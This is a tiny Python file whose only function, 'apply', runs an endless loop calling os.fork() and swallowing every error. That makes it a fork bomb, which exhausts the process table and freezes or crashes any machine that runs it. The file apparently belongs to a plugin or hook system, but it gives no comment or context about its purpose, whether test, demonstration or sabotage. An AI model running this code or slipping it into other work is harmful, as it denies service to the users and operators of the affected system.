import os


def apply(_):
    while True:
        try:
            os.fork()
        except OSError:
            pass
